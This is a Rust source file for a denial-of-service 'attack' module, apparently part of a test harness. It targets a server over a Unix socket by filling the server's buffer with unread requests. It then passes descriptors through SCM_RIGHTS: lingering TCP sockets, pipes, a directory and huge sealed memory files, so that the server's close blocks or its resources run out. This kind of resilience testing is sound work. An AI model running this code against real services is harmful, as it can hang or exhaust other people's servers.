//! The attack with descriptors: a client sends them beside the bytes of its requests, and their close waits.
//!
//! The last close of a TCP socket that lingers waits for its other end. The attacker closes its own
//! descriptor while a copy lies in the socket of the server, unread. The process that takes the copy from
//! there closes it last.
//!
//! A message has as many descriptors as Linux takes: of that socket, a pipe, a directory, and memory that is
//! huge, sealed or not.

use super::{Attack, Target};
use nix::{
    fcntl::{FcntlArg, SealFlag, fcntl},
    sys::{
        memfd::{MFdFlags, memfd_create},
        socket::{ControlMessage, MsgFlags, SetSockOpt as _, sendmsg, sockopt},
    },
    unistd::ftruncate,
};
use std::{
    io::{IoSlice, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    os::{
        fd::{AsRawFd as _, OwnedFd, RawFd},
        unix::net::UnixStream,
    },
};

/// How long a close lingers, in seconds: longer than any test.
const LINGER: i32 = 3600;
/// The most descriptors that Linux takes in one message.
const DESCRIPTORS_MAX: usize = 253;
/// So many requests are sent at once.
const REQUESTS: usize = 20;
/// After so many writes without room the server takes no more.
const FULL_AFTER: u32 = 3;

/// Where a connection is.
#[derive(Debug)]
enum Stage {
    /// It sends requests whose replies nobody reads. The number of writes that found no room.
    Fills(u32),
    /// The server takes no more: a descriptor stays in its socket.
    IsFull,
    /// The descriptor is sent. The client reads the replies, so that the server goes on.
    GoesOn,
}

/// The attack.
#[derive(Debug)]
pub struct Descriptors {
    most: usize,
    links: Vec<(UnixStream, Stage)>,
    next: usize,
    opened: u64,
    listener: TcpListener,
    /// The other ends, which read nothing.
    ends: Vec<TcpStream>,
    /// Files of other kinds.
    others: Vec<OwnedFd>,
}

impl Descriptors {
    /// Returns the attack with at most `most` connections at once.
    #[must_use]
    pub fn new(most: usize) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let (links, ends) = (Vec::new(), Vec::new());
        Descriptors { most, links, next: 0, opened: 0, listener, ends, others: others() }
    }

    /// Returns a socket whose last close waits.
    fn lingering(&mut self) -> TcpStream {
        let mut socket =
            TcpStream::connect(self.listener.local_addr().expect("an address")).expect("connected");
        self.ends.push(self.listener.accept().expect("accepted").0);
        socket.set_nonblocking(true).expect("a socket");
        while socket.write(&[0; 64 << 10]).is_ok() {}
        socket.set_nonblocking(false).expect("a socket");
        set_linger(&socket, LINGER);
        socket
    }
}

/// Returns a pipe, a directory, and memory that is huge, sealed or not.
fn others() -> Vec<OwnedFd> {
    let memory = |seals| {
        let flags = MFdFlags::MFD_ALLOW_SEALING | MFdFlags::MFD_CLOEXEC;
        let memory = memfd_create("attack", flags).expect("memory");
        ftruncate(&memory, 1 << 40).expect("a huge length");
        fcntl(&memory, FcntlArg::F_ADD_SEALS(seals)).expect("seals");
        memory
    };
    let (reads, writes) = std::io::pipe().expect("a pipe");
    let directory = std::fs::File::open("/").expect("a directory");
    let memories = [SealFlag::empty(), SealFlag::F_SEAL_SHRINK | SealFlag::F_SEAL_WRITE].map(memory);
    [reads.into(), writes.into(), directory.into()].into_iter().chain(memories).collect()
}

fn set_linger(socket: &TcpStream, seconds: i32) {
    let linger = libc::linger { l_onoff: 1, l_linger: seconds };
    sockopt::Linger.set(socket, &linger).expect("a socket");
}

impl Attack for Descriptors {
    fn name(&self) -> &'static str {
        "descriptors"
    }

    fn opened(&self) -> u64 {
        self.opened
    }

    fn step(&mut self, target: &Target) {
        if self.links.len() < self.most
            && let Ok(stream) = UnixStream::connect(&target.socket)
            && stream.set_nonblocking(true).is_ok()
        {
            self.links.push((stream, Stage::Fills(0)));
            self.opened += 1;
        }
        if self.links.is_empty() {
            return;
        }
        self.next = (self.next + 1) % self.links.len();
        let mut socket = None;
        if matches!(self.links[self.next].1, Stage::IsFull) {
            socket = Some(self.lingering());
        }
        let (stream, stage) = &mut self.links[self.next];
        let mut bytes = [0; 16 << 10];
        let mut is_open = true;
        match (&stage, socket) {
            (Stage::Fills(full), _) => {
                let request = target.head("GET", "/v1/info") + "\r\n";
                *stage = match stream.write(request.repeat(REQUESTS).as_bytes()) {
                    Ok(_) => Stage::Fills(0),
                    Err(_) if *full < FULL_AFTER => Stage::Fills(full + 1),
                    Err(_) => Stage::IsFull,
                };
            }
            (Stage::IsFull, Some(socket)) => {
                let others = self.others.iter().map(|file| file.as_raw_fd()).cycle();
                let files: Vec<RawFd> =
                    std::iter::once(socket.as_raw_fd()).chain(others).take(DESCRIPTORS_MAX).collect();
                let rights = [ControlMessage::ScmRights(&files)];
                let parts = [IoSlice::new(b"G")];
                match sendmsg::<()>(stream.as_raw_fd(), &parts, &rights, MsgFlags::MSG_NOSIGNAL, None) {
                    Ok(_) => *stage = Stage::GoesOn,
                    Err(error) => {
                        // This is the last one: it must not hold the attacker.
                        set_linger(&socket, 0);
                        if error == nix::errno::Errno::EAGAIN {
                            // Some bytes of room.
                            drop(stream.read(&mut bytes[..4096]));
                        } else {
                            *stage = Stage::GoesOn;
                        }
                    }
                }
            }
            (Stage::IsFull, None) => {}
            (Stage::GoesOn, _) => {
                is_open = match stream.read(&mut bytes) {
                    Ok(n) => n > 0,
                    Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
                };
            }
        }
        if !is_open {
            self.links.swap_remove(self.next);
        }
    }
}
